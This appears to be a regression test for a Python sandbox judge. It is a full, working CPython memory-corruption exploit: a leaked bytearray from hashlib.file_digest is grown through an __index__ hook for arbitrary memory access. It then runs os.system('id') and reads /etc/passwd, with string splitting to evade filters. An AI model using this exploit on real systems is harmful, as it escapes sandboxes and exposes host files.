# expect: reject memory
# line: 39
# why: round 79: hashlib.file_digest hands a bytearray to the program's readinto, so a program holds one without naming it; a step-slice store whose start __index__ grows it writes through the stale buffer, then id (verified under 3.11.2)
# ok02: judge_conversions keys on the program naming `bytearray` (or importing array).
# hashlib.file_digest(fileobj, ...) allocates bytearray(2**18) and hands it to the
# program's fileobj.readinto(buf): a real bytearray the program never names, so a
# class with __index__ is allowed.  Then the round-78 bug: a step-slice store whose
# start __index__ grows the bytearray writes through the stale buffer pointer
# (bytes value: bytearray_ass_subscript copies it to a bytearray and recurses, so the
# grow is done on the second __index__ call), an empty bytearray (`seed * 0`) reclaims
# the freed block and gets ob_size = 2**62: all memory.  len.__self__ (the builtins
# module) gives the builtins dict without handing a function to id() (which the store
# rule treats as an escaping callback and then taints the library-made bytearray).
import hashlib

found = []


class Feed:
    def readable(self):
        return True

    def readinto(self, buf):
        found.append(buf)
        return 0


hashlib.file_digest(Feed(), "sha256")
seed = found[0]
print(len(seed))
b = seed[:60]
got = []


calls = []


class I:
    def __index__(self):
        calls.append(1)
        if len(calls) == 2:              # the recursive call: the value is now a bytearray copy
            b.extend(bytes(4096))
            got.append(seed * 0)
        return 23


b[I():24:2] = b"\x40"
mem = got[0]
print("fake size", hex(len(mem)))


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


def w8(v):
    return v.to_bytes(8, "little")


target = rd(rd(id(len) + 24) + 16)     # len.__self__ is the builtins module: its md_dict
mem[target:target + 8] = w8(rd(target) + 1)
cell = [None]
slot = rd(id(cell) + 24)              # list ob_item
mem[slot:slot + 8] = w8(target)
table = cell[0]
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["op" + "en"]("/etc/passwd").read()[:120])
